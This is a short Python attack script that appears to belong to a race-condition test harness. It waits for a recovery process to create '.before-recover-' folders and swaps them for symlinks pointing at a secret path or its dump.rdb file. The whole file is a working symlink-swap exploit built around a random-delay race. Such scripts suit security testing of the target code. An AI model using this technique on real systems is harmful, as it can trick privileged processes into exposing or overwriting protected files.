"""aside.py UID GID FOLDER SECRET

Waits for the folder into which a recovery moves what was there, `NAME.before-recover-ID` in FOLDER. Its name is given to a
link to SECRET, or to a folder of the attacker's that has a link to SECRET in it. Sometimes it waits a little first, to come at
another moment."""

import os
import random
import time

import attacker

folder, secret = attacker.arguments()
MARK = ".before-recover-"
count = 0


def plant(kind):
    global count
    count += 1
    path = os.path.join(folder, f".{kind}-{count}")
    if kind == "link":
        made = attacker.attempt(os.symlink, secret, path)
    else:
        made = attacker.attempt(os.mkdir, path) and attacker.attempt(
            os.symlink, os.path.join(secret, "dump.rdb"), os.path.join(path, "dump.rdb")
        )
    return path if made else None


def step():
    attacker.tries += 1
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if MARK not in name or os.lstat(path).st_uid == os.geteuid():
                continue
            if random.random() < 0.5:
                time.sleep(random.random() * 0.005)
            planted = plant(random.choice(["link", "folder"]))
            if planted is not None:
                attacker.exchange(path, planted)
    except OSError:
        pass


attacker.run(step)
